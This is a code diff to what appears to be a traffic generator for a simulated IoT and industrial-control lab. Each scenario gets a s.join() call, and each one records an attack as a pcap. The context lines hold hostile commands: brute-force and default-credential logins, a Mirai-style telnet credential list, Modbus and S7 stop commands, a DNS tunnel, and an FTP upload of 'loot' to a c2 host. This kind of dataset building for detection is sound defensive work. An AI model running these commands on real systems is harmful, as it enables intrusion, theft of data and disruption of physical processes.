@@ -19,6 +19,7 @@ def modbus_write_stranger():
         things.rtu(s, RTU)
         tool = build_c(s, "mbtool")
         s.record()
+        s.join()
         s.phase(4)
         things.master(s, 400, 30, 0, RTU)
         things.wait(3)
@@ -35,6 +36,7 @@ def modbus_recon():
         things.rtu(s, RTU)
         tool = build_c(s, "mbtool")
         s.record()
+        s.join()
         s.phase(4)
         a = address(RTU)
         s.run("laptop-guest", "nmap", "-n", "-Pn", "-p", "502", "--script", "modbus-discover", a)
@@ -50,6 +52,7 @@ def modbus_write_burst():
         things.rtu(s, RTU)
         tool = build_c(s, "mbtool")
         s.record()
+        s.join()
         s.run("scada01", tool, address(RTU), 1, *[f"wc:{n % 4}:{n % 2}" for n in range(40)], "wc:40:1")
         return s.save("modbus/write-burst.pcap", START)
 
@@ -62,6 +65,7 @@ def mqtt_wildcard():
         things.broker(s)
         things.wait(0.8)
         s.record()
+        s.join()
         s.phase(4)
         things.level_sensor(s, "level-cai-rang", 1)
         account = ("-u", "level-binh-thuy", "-P", things.ACCOUNTS["level-binh-thuy"])
@@ -79,6 +83,7 @@ def mqtt_brute():
         things.broker(s)
         things.wait(0.8)
         s.record()
+        s.join()
         for n in range(30):
             s.run("laptop-guest", "mosquitto_pub", "-h", address("mqtt01"), "-i", f"probe-{n}", "-u", "level-cai-rang", "-P", f"123{n}",
                   "-t", "x", "-m", "x")
@@ -94,6 +99,7 @@ def mqtt_outside():
         things.broker(s)
         things.wait(0.8)
         s.record()
+        s.join()
         to = ("-h", address("mqtt01"))
         for n in range(14):
             s.run("attacker", "mosquitto_pub", "-V", "5", *to, "-i", f"m5-{n}", "-u", "dashboard", "-P", f"admin{n}", "-t", "x", "-m", "x")
@@ -111,6 +117,7 @@ def modbus_internet():
         things.rtu(s, RTU)
         tool = build_c(s, "mbtool")
         s.record()
+        s.join()
         s.run("attacker", "nmap", "-n", "-Pn", "-sS", "-p", "102,502,2404,20000,44818", address(RTU))
         s.run("attacker", tool, address(RTU), 1, "rh:0:10")
         return s.save("modbus/internet.pcap", START)
@@ -123,6 +130,7 @@ def camera_scan():
         things.camera(s, CAMERA)
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", "nmap", "-n", "-Pn", "-sS", "-T4", "--top-ports", "300", "--max-retries", "1", address(CAMERA))
         s.run("attacker", "nmap", "-n", "-Pn", "-sV", "-p", "80", "--script", "http-title,http-methods", address(CAMERA), timeout=90)
         return s.save("camera/scan.pcap", START)
@@ -135,6 +143,7 @@ def camera_default_login():
         things.camera(s, CAMERA)
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", "curl", "-s", "-u", "admin:12345", f"http://{address(CAMERA)}/ISAPI/deviceInfo")
         return s.save("camera/default-login.pcap", START)
 
@@ -149,6 +158,7 @@ def camera_http_brute():
                                            "123456", "54321", "qwerty", "letmein", "default", "user", "12345"]) + "\n")
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", "hydra", "-L", users, "-P", words, "-t", "4", "-f", "-I", address(CAMERA), "http-get", "/")
         return s.save("camera/http-brute-force.pcap", START)
 
@@ -161,6 +171,7 @@ def camera_outside():
         ask = s.file("ask.xml", things.ONVIF_ASK.replace("GetSystemDateAndTime", "GetUsers"))
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", *things.python("rtsp", "describe", address(CAMERA), "LibVLC/3.0.18"))
         s.run("attacker", "nmap", "-n", "-Pn", "-p", "554", "--script", "rtsp-methods", address(CAMERA))
         s.run("attacker", "curl", "-s", "-H", "Content-Type: application/soap+xml", "--data-binary", f"@{ask}",
@@ -177,6 +188,7 @@ def telnet_loader():
         things.c2(s)
         things.wait(1)
         s.record()
+        s.join()
         s.phase(2)
         guesses = "root:xc3511,root:vizxv,root:admin,admin:admin,root:888888,root:xmhdipc,support:support,admin:12345"
         s.run("attacker", *things.python("loader", address(CAMERA), guesses, *things.INFECT), timeout=120)
@@ -195,6 +207,7 @@ def ssh_brute():
         words = s.file("words", "\n".join(f"gateway{n}" for n in range(16)) + "\n")
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", "hydra", "-l", "root", "-P", words, "-t", "4", "-I", "ssh://" + address("lora-cai-rang"), timeout=180)
         return s.save("ssh/brute-force.pcap", START)
 
@@ -206,6 +219,7 @@ def dns_tunnel():
         things.dns(s)
         things.wait(0.8)
         s.record()
+        s.join()
         s.phase(10)
         s.run("rain-o-mon", *things.python("tunnel", DNS, "t.sync-cdn.example", 60))
         return s.save("dns/tunnel.pcap", START)
@@ -218,6 +232,7 @@ def new_resolver():
         things.dns(s)
         things.wait(0.8)
         s.record()
+        s.join()
         s.phase(10)
         for _ in range(3):
             s.run(CAMERA, "busybox", "nslookup", f"ntp01.{things.ZONE}", DNS)
@@ -236,6 +251,7 @@ def tls_self_signed():
         things.tls_server(s, "c2", "relay.tramgacbot.example", 8443)
         things.wait(0.8)
         s.record()
+        s.join()
         s.run(CAMERA, "curl", "-s", "-k", "-o", "/dev/null", f"https://{address('c2')}/")
         s.run(CAMERA, "curl", "-s", "-k", "-o", "/dev/null", "--resolve", f"relay.tramgacbot.example:8443:{address('c2')}",
               "https://relay.tramgacbot.example:8443/")
@@ -249,6 +265,7 @@ def coap_discovery():
         s.spawn("level-cai-rang", "coap-server-notls", "-A", "0.0.0.0")
         things.wait(0.8)
         s.record()
+        s.join()
         a = address("level-cai-rang")
         s.run("attacker", "coap-client-notls", "-m", "get", f"coap://{a}/.well-known/core", "-B", "2")
         s.run("attacker", "coap-client-notls", "-m", "put", "-e", "0", f"coap://{a}/time", "-B", "2")
@@ -275,6 +292,7 @@ def http_exploits():
         things.camera(s, CAMERA)
         things.wait(0.8)
         s.record()
+        s.join()
         for method, path, body in EXPLOITS:
             data = ("--data-binary", body) if body else ()
             s.run("attacker", "curl", "-s", "-g", "--path-as-is", "-o", "/dev/null", "-A", "Hello, World", "-X", method, *data,
@@ -289,6 +307,7 @@ def cwmp():
         things.web(s, "lora-cai-rang", "location / { return 401; }", listen="7547")
         things.wait(0.8)
         s.record()
+        s.join()
         s.run("attacker", "curl", "-s", "-o", "/dev/null", "-H", "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers",
               "--data-binary", CWMP, f"http://{address('lora-cai-rang')}:7547/UD/act?1")
         return s.save("http/cwmp.pcap", START)
@@ -302,6 +321,7 @@ def s7_stop():
         s.spawn(plc, *things.python("plc", "serve"))
         things.wait(0.5)
         s.record()
+        s.join()
         s.phase(4)
         s.run("laptop-guest", "nmap", "-n", "-Pn", "-p", "102,44818", "--script", "s7-info,enip-info", address(plc))
         s.run("laptop-guest", *things.python("plc", "hmi", address(plc), 3, 0.3, 2))
@@ -318,6 +338,7 @@ def telecontrol_command():
         s.spawn(rtu, *things.python("telecontrol", "serve"))
         things.wait(0.5)
         s.record()
+        s.join()
         s.phase(4)
         s.run("laptop-guest", *things.python("telecontrol", "command104", address(rtu)))
         s.run("laptop-guest", *things.python("telecontrol", "operatednp3", address(rtu)))
@@ -333,6 +354,7 @@ def ftp_other_server():
         loot = s.file("loot.csv", "time,level,rain\n" * 60)
         things.wait(1)
         s.record()
+        s.join()
         s.run("rain-o-mon", "curl", "-s", "-T", loot, f"ftp://x:x@{address('c2')}/loot.csv")
         return s.save("ftp/other-server.pcap", START)
 
@@ -346,6 +368,7 @@ def lorawan_second_server():
             s.spawn(server, *things.python("lorawan", "serve"))
         things.wait(0.5)
         s.record()
+        s.join()
         s.phase(60)
         s.run("lora-cai-rang", *things.python("lorawan", "gateway", f"lns01.{things.ZONE}", 12, 0.17))
         s.run("lora-cai-rang", *things.python("lorawan", "gateway", address("c2"), 6, 0.17))
